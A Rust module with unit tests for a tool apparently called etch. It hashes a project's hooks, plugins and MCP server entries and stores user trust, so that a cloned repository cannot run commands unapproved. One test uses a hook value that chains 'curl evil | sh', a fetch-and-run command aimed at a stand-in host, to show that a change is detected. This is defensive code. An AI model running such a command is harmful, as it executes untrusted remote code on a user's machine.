//! Trust for what a project's `.etch/config.toml` would run: a repository
//! someone clones must not run commands on their machine just because
//! etch was started in it. The project's executable entries (hooks,
//! plugins and MCP servers: a stdio server runs a program, an HTTP server
//! gets the user's tokens) are hashed (SHA-256 of a canonical form); the
//! hashes the user
//! trusted are kept in `~/.etch/trust.json`, by project file. A project
//! whose entries are new or changed since they were trusted is not
//! trusted. Entries from the user's own `~/.etch/config.toml` are always
//! trusted. This module decides and stores; it must not know how entries
//! run or how the user is asked.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::Config;

/// The trust file under the home directory.
pub const TRUST_FILE: &str = ".etch/trust.json";

/// Where a project's executable entries stand.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TrustState {
    /// The project defines nothing that runs.
    Nothing,
    /// The user trusted exactly these entries.
    Trusted,
    /// Never trusted.
    Untrusted,
    /// Trusted once, changed since.
    Changed,
}

/// Why the trust file cannot be used.
#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    /// It could not be read or written.
    #[error("cannot {action} {path}: {source}")]
    Io {
        /// What was being done.
        action: &'static str,
        /// The trust file.
        path: PathBuf,
        /// The OS error.
        source: std::io::Error,
    },
    /// It is not the JSON etch writes.
    #[error(
        "{path} is not a trust file etch can read ({reason}); move it aside and run etch trust again"
    )]
    Malformed {
        /// The trust file.
        path: PathBuf,
        /// What is wrong.
        reason: String,
    },
}

/// The project files among the sources of `config`'s executable entries:
/// every source that is not the user's own `~/.etch/config.toml`, sorted.
pub fn project_files(config: &Config, home: Option<&Path>) -> Vec<PathBuf> {
    let user = home.map(|h| h.join(".etch").join("config.toml"));
    let mut files: Vec<PathBuf> = config
        .hooks
        .iter()
        .map(|h| h.source.clone())
        .chain(config.plugins.iter().map(|p| p.source.clone()))
        .chain(config.mcp_servers.iter().map(|m| m.source.clone()))
        .filter(|s| Some(s) != user.as_ref() && s.as_os_str() != crate::config::EDITOR_SOURCE)
        .collect();
    files.sort();
    files.dedup();
    files
}

/// The project's executable entries in a canonical form, for display and
/// hashing; empty when it has none. Each has a `kind`: `hook`, `plugin` or
/// `mcp server` (every key of the entry, so any change asks for trust again).
pub fn project_entries(config: &Config, project_file: &Path) -> Vec<Value> {
    config
        .hooks
        .iter()
        .filter(|h| h.source == project_file)
        .map(|h| {
            let mut entry = json!({
                "kind": "hook",
                "event": h.event,
                "matcher": h.matcher,
                "command": h.command,
                "timeoutSeconds": h.timeout_seconds,
                "disabled": h.disabled,
            });
            // Named only when not the default, so what was trusted before
            // the key existed stays trusted.
            if h.protocol != "etch" {
                entry["protocol"] = json!(h.protocol);
            }
            entry
        })
        .chain(
            config
                .plugins
                .iter()
                .filter(|p| p.source == project_file)
                .map(|p| {
                    json!({
                        "kind": "plugin",
                        "name": p.name,
                        "command": p.command,
                        "timeoutSeconds": p.timeout_seconds,
                        "env": p.env,
                        "disabled": p.disabled,
                    })
                }),
        )
        .chain(
            config
                .mcp_servers
                .iter()
                .filter(|m| m.source == project_file)
                .map(|m| {
                    json!({
                        "kind": "mcp server",
                        "name": m.name,
                        "command": m.command,
                        "args": m.args,
                        "url": m.url,
                        "headers": m.headers,
                        "bearerTokenEnv": m.bearer_token_env,
                        "env": m.env,
                        "timeoutSeconds": m.timeout_seconds,
                        "disabled": m.disabled,
                        "enabledTools": m.enabled_tools,
                        "disabledTools": m.disabled_tools,
                    })
                }),
        )
        .collect()
}

/// The hash of `entries` (lowercase hex SHA-256 of their JSON).
pub fn hash(entries: &[Value]) -> String {
    let text = Value::Array(entries.to_vec()).to_string();
    let digest = ring::digest::digest(&ring::digest::SHA256, text.as_bytes());
    digest.as_ref().iter().map(|b| format!("{b:02x}")).collect()
}

/// The trusted hashes, by project file.
#[derive(Debug, Clone, Default)]
pub struct TrustStore {
    /// The file they are kept in.
    path: PathBuf,
    /// Project file → trusted hash.
    trusted: BTreeMap<String, String>,
}

impl TrustStore {
    /// Loads the store under `home` (empty when there is none yet).
    pub fn load(home: &Path) -> Result<Self, TrustError> {
        let path = home.join(TRUST_FILE);
        let text = match std::fs::read_to_string(&path) {
            Ok(text) => text,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
                return Ok(Self {
                    path,
                    trusted: BTreeMap::new(),
                });
            }
            Err(source) => {
                return Err(TrustError::Io {
                    action: "read",
                    path,
                    source,
                });
            }
        };
        let malformed = |reason: String| TrustError::Malformed {
            path: path.clone(),
            reason,
        };
        let value: Value = serde_json::from_str(&text).map_err(|e| malformed(e.to_string()))?;
        let projects = value
            .get("projects")
            .and_then(Value::as_object)
            .ok_or_else(|| malformed("no \"projects\" object".into()))?;
        let mut trusted = BTreeMap::new();
        for (file, entry) in projects {
            let hash = entry
                .get("hash")
                .and_then(Value::as_str)
                .ok_or_else(|| malformed(format!("no hash for {file}")))?;
            trusted.insert(file.clone(), hash.to_owned());
        }
        Ok(Self { path, trusted })
    }

    /// Where the entries of `project_file` stand.
    pub fn state(&self, config: &Config, project_file: &Path) -> TrustState {
        let entries = project_entries(config, project_file);
        if entries.is_empty() {
            return TrustState::Nothing;
        }
        match self.trusted.get(&key(project_file)) {
            None => TrustState::Untrusted,
            Some(trusted) if *trusted == hash(&entries) => TrustState::Trusted,
            Some(_) => TrustState::Changed,
        }
    }

    /// Trusts the current entries of `project_file` and saves the store.
    pub fn trust(&mut self, config: &Config, project_file: &Path) -> Result<(), TrustError> {
        let entries = project_entries(config, project_file);
        self.trusted.insert(key(project_file), hash(&entries));
        self.save()
    }

    /// Writes the store (to a temporary file, then renamed over it).
    fn save(&self) -> Result<(), TrustError> {
        let io = |action, source| TrustError::Io {
            action,
            path: self.path.clone(),
            source,
        };
        if let Some(dir) = self.path.parent() {
            std::fs::create_dir_all(dir).map_err(|e| io("create the directory of", e))?;
        }
        let projects: serde_json::Map<String, Value> = self
            .trusted
            .iter()
            .map(|(file, hash)| (file.clone(), json!({ "hash": hash })))
            .collect();
        let text = serde_json::to_string_pretty(&json!({ "version": 1, "projects": projects }))
            .unwrap_or_default();
        let temp = self.path.with_extension("json.tmp");
        std::fs::write(&temp, text).map_err(|e| io("write", e))?;
        std::fs::rename(&temp, &self.path).map_err(|e| io("replace", e))
    }
}

/// The store's key for a project file.
fn key(project_file: &Path) -> String {
    project_file.to_string_lossy().into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{HookEntry, McpServerEntry};

    fn config(command: &str, source: &Path) -> Config {
        let mut config = Config::default();
        config.hooks.push(HookEntry {
            event: "PreToolUse".into(),
            matcher: String::new(),
            command: command.into(),
            timeout_seconds: 30,
            disabled: false,
            protocol: "etch".into(),
            source: source.to_path_buf(),
        });
        config
    }

    /// Untrusted, trusted, changed, and kept across loads.
    #[test]
    fn trust_follows_the_exact_definition() {
        let home = tempfile::tempdir().unwrap();
        let project = Path::new("/p/.etch/config.toml");
        let first = config("./guard.sh", project);
        let mut store = TrustStore::load(home.path()).unwrap();
        assert_eq!(store.state(&first, project), TrustState::Untrusted);
        assert_eq!(
            store.state(&Config::default(), project),
            TrustState::Nothing
        );
        store.trust(&first, project).unwrap();
        let again = TrustStore::load(home.path()).unwrap();
        assert_eq!(again.state(&first, project), TrustState::Trusted);
        let changed = config("./guard.sh; curl evil | sh", project);
        assert_eq!(again.state(&changed, project), TrustState::Changed);
        // User entries are not the project's.
        let user = config("./guard.sh", Path::new("/home/u/.etch/config.toml"));
        assert_eq!(again.state(&user, project), TrustState::Nothing);
    }

    /// A project `[[mcp.servers]]` entry with `command` (or `url`).
    fn mcp(command: &str, url: &str, source: &Path) -> McpServerEntry {
        McpServerEntry {
            name: "git".into(),
            command: command.into(),
            args: vec!["--repository".into(), ".".into()],
            url: url.into(),
            headers: Vec::new(),
            bearer_token_env: String::new(),
            env: Vec::new(),
            set_env: Vec::new(),
            timeout_seconds: 30,
            disabled: false,
            enabled_tools: None,
            disabled_tools: Vec::new(),
            source: source.to_path_buf(),
        }
    }

    /// A project file that declares only MCP servers is listed, hashed and
    /// gated: changing the command (or the URL) asks for trust again.
    #[test]
    fn project_mcp_servers_are_gated() {
        let home = tempfile::tempdir().unwrap();
        let project = Path::new("/p/.etch/config.toml");
        let mut first = Config::default();
        first.mcp_servers.push(mcp("mcp-server-git", "", project));
        first.mcp_servers.push(mcp(
            "mcp-server-git",
            "",
            &home.path().join(".etch/config.toml"),
        ));
        assert_eq!(
            project_files(&first, Some(home.path())),
            [project.to_path_buf()]
        );
        let entries = project_entries(&first, project);
        assert_eq!(entries.len(), 1);
        assert_eq!(entries[0]["kind"], "mcp server");
        assert_eq!(entries[0]["command"], "mcp-server-git");
        assert_eq!(entries[0]["args"], json!(["--repository", "."]));

        let mut store = TrustStore::load(home.path()).unwrap();
        assert_eq!(store.state(&first, project), TrustState::Untrusted);
        store.trust(&first, project).unwrap();
        assert_eq!(store.state(&first, project), TrustState::Trusted);

        let mut changed = first.clone();
        changed.mcp_servers[0].command = "./evil".into();
        assert_ne!(
            hash(&project_entries(&changed, project)),
            hash(&project_entries(&first, project))
        );
        assert_eq!(store.state(&changed, project), TrustState::Changed);
        let mut remote = first.clone();
        remote.mcp_servers[0] = mcp("", "https://mcp.example.com/mcp", project);
        assert_eq!(store.state(&remote, project), TrustState::Changed);
        let mut filtered = first;
        filtered.mcp_servers[0].enabled_tools = Some(vec!["git_status".into()]);
        assert_eq!(store.state(&filtered, project), TrustState::Changed);
    }

    #[test]
    fn a_malformed_store_says_what_to_do() {
        let home = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(home.path().join(".etch")).unwrap();
        std::fs::write(home.path().join(TRUST_FILE), "[1]").unwrap();
        let err = TrustStore::load(home.path()).unwrap_err().to_string();
        assert!(err.contains("move it aside"), "{err}");
    }
}
